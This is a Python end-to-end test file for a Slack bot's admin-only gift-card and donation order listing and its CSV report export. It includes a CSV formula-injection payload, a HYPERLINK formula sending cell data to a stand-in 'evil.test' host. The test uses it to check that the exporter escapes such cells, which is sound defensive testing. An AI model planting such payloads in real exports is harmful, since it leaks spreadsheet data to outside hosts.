"""`/reward orders` and `/reward orders report` end to end over signed HTTP: the admins' list of
gift cards and donations (one reply, each status), and the two CSV files of a period in the
admin's DM, read page by page from the sandbox's getOrderHistory and paymentHistory (both answer
shapes), every cell through the formula guard; nothing at all when Xoxoday can't be reached."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from bot.simulators.plum_sandbox import catalogue
from storage.states import DeliveryStatus, OrderKind
from tests.e2e.harness import ADMIN, BOB, MARIA, BotHarness, message_text
from tests.e2e.orders_support import ask, order
from tests.slack.blocks.blockkit_rules import check_message

PO = re.compile(r"PO-T-[0-9a-f]{8}")
INJECTION = '=HYPERLINK("https://evil.test/?x="&A1,"Click me")'


def today() -> str:
    return datetime.now(UTC).date().isoformat()  # REWARD_TIMEZONE is UTC, as is the sandbox


def rows(upload: dict) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(upload["content"].decode("utf-8"))))


# ── /reward orders ───────────────────────────────────────────────────────────────────────


def test_admins_see_the_latest_orders_with_their_status(bot: BotHarness) -> None:
    delivered, _ = order(bot, name="Flipkart Gift Card", delivery=DeliveryStatus.DELIVERED)
    placed, _ = order(bot, name="Myntra Gift Card", product_id=1234, giver=MARIA, recipient=ADMIN)
    canceled, _ = order(bot, name="Zomato Gift Card", delivery=DeliveryStatus.CANCELED)
    pending, _ = order(bot, name="Big Gift", outcome="pending", denomination=2000)
    failed, _ = order(bot, name="Sold Out Card", outcome="failed")
    doubt, _ = order(bot, name="Lost Answer Card", outcome="unknown")
    donation, _ = order(bot, name="GlobalGiving", recipient=None, kind=OrderKind.DONATION)

    answer = ask(bot, "orders")
    check_message(answer)
    text = message_text(answer)
    lines = {m.group(0): line for line in text.splitlines() if (m := PO.search(line))}
    assert "✅ delivered" in lines[delivered] and "*500.00 INR*" in lines[delivered]
    assert "Flipkart Gift Card" in lines[delivered]
    assert f"<@{ADMIN}> → <@{MARIA}>" in lines[delivered]
    assert "🟢 placed" in lines[placed] and f"<@{MARIA}> → <@{ADMIN}>" in lines[placed]
    assert "🚫 canceled" in lines[canceled]
    assert "⏳ pending approval" in lines[pending] and "*2,000.00 INR*" in lines[pending]
    assert "❌ failed" in lines[failed]
    assert "🔎 in doubt" in lines[doubt]
    assert "💝 GlobalGiving" in lines[donation] and "→ the team" in lines[donation]
    # newest first
    order_shown = list(lines)
    assert order_shown[0] == donation and order_shown[-1] == delivered
    assert "orders report" in text  # says how to get the CSVs
    assert len(bot.fake.ephemerals(ADMIN, source="response_url")) == 1  # one reply


def test_no_orders_yet_is_said_plainly(bot: BotHarness) -> None:
    text = message_text(ask(bot, "orders"))
    assert "No gift cards or donations have been sent from Slack yet." in text


def test_members_are_refused_in_the_ack(bot: BotHarness) -> None:
    order(bot)
    for text in ("orders", "orders report last month"):
        response = bot.driver.command(text, user_id=BOB)
        assert "Only admins can see the gift card and donation orders." in response.text
    bot.settle()
    assert bot.fake.ephemerals(BOB, source="response_url") == []
    assert bot.fake.files == []
    asked = [r["operation"] for r in bot.sandbox.requests]
    assert "getOrderHistory" not in asked and "paymentHistory" not in asked


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("orders all", "`/reward orders` lists the latest orders"),
        ("orders report 2026-13-01 2026-12-31", "`2026-13-01` isn't a date I can read"),
        ("orders report 2026-12-31 2026-12-01", "The period ends before it starts"),
        ("orders report 2024-01-01 2026-01-01", "a report covers at most 366"),
        ("orders report 2026-11-01 2026-11-02 extra", "Give the first and the last day"),
    ],
)
def test_a_mistyped_report_is_explained_in_the_ack(
    bot: BotHarness, text: str, expected: str
) -> None:
    response = bot.driver.command(text, user_id=ADMIN)
    assert expected in response.text
    bot.settle()
    assert bot.fake.files == []


# ── /reward orders report ────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("shape", ["spec", "guide"])
def test_the_reports_arrive_as_two_csvs_in_the_admins_dm(
    bot: BotHarness, monkeypatch: pytest.MonkeyPatch, shape: str
) -> None:
    bot.sandbox.faults.set_variant("paymentHistory", shape)
    product = catalogue.PRODUCTS_BY_ID[10003]
    monkeypatch.setitem(catalogue.PRODUCTS_BY_ID, 10003, replace(product, name=INJECTION))
    po, placed = order(bot, name=INJECTION)
    assert placed is not None
    donation, _ = order(bot, name="GlobalGiving", recipient=None, kind=OrderKind.DONATION)
    bot.sandbox.state.add_payment(amount=Decimal(42), reference_id="DASH-1", reason="@SUM(A1:A9)")

    answer = message_text(ask(bot, f"orders report {today()} {today()}"))
    assert "are in two CSV files in our DM" in answer

    (first, second) = bot.wait(lambda: len(bot.fake.files) == 2 and bot.fake.files)
    assert {first["channel"], second["channel"]} == {bot.fake.workspace.im_of(ADMIN)}
    orders_file, payments_file = sorted([first, second], key=lambda f: f["filename"])
    assert orders_file["filename"] == f"xoxoday-orders-{today()}_{today()}.csv"
    assert payments_file["filename"] == f"xoxoday-payments-{today()}_{today()}.csv"
    assert "2 orders" in (orders_file["initial_comment"] or "")

    by_po = {r["po_number"]: r for r in rows(orders_file)}
    mine = by_po[po]
    assert mine["product"] == "'" + INJECTION  # shown as text, never run
    assert mine["xoxoday_order_id"] == str(placed.order.order_id)
    assert mine["amount_charged"] == str(placed.order.amount_charged)
    assert (mine["quantity"], mine["denomination"], mine["currency"]) == ("1", "500", "INR")
    assert (mine["kind"], mine["sent_by"], mine["sent_by_slack_id"]) == ("gift", "ada", ADMIN)
    assert (mine["for"], mine["for_slack_id"]) == ("maria", MARIA)
    assert by_po[donation]["for"] == "the team" and by_po[donation]["kind"] == "donation"
    assert "DEMO-" not in orders_file["content"].decode()  # no voucher codes

    payments = {r["reference_id"]: r for r in rows(payments_file)}
    charged = payments[str(placed.order.order_id)]
    assert charged["amount"] == str(-placed.order.amount_charged)
    assert charged["transaction_status"] == "Complete" and charged["date"] == today()
    assert payments["DASH-1"]["reason"] == "'@SUM(A1:A9)" and payments["DASH-1"]["amount"] == "-42"
    assert list(rows(payments_file)[0]) == [
        "date",
        "invoice_number",
        "reference_id",
        "reason",
        "amount",
        "transaction_status",
        "closing_balance",
    ]


def test_long_reports_are_read_page_by_page(bot: BotHarness) -> None:
    for i in range(130):
        bot.sandbox.state.add_payment(amount=Decimal(1), reference_id=f"FEE-{i}")
    ask(bot, "orders report this month")
    (upload, _) = sorted(
        bot.wait(lambda: len(bot.fake.files) == 2 and bot.fake.files),
        key=lambda f: f["filename"],
        reverse=True,
    )
    assert upload["filename"].startswith("xoxoday-payments-")
    refs = [r["reference_id"] for r in rows(upload)]
    assert len(refs) == 131 and len(set(refs)) == 131  # 130 fees and the opening funds
    pages = [
        r["variables"]["data"]["page"]
        for r in bot.sandbox.requests
        if r["operation"] == "paymentHistory"
    ]
    assert pages == [1, 2]


def test_xoxoday_down_sends_nothing_and_says_so(bot: BotHarness) -> None:
    order(bot)
    bot.sandbox.faults.set("paymentHistory", error="PIPE10017")
    answer = message_text(ask(bot, "orders report last month"))
    assert "I couldn't reach Xoxoday just now" in answer and "No report was sent" in answer
    assert "PIPE" not in answer and "Traceback" not in answer
    bot.settle()
    assert bot.fake.files == []  # not the orders file alone either
    assert [r for r in bot.sandbox.requests if r["operation"] == "getOrderHistory"]
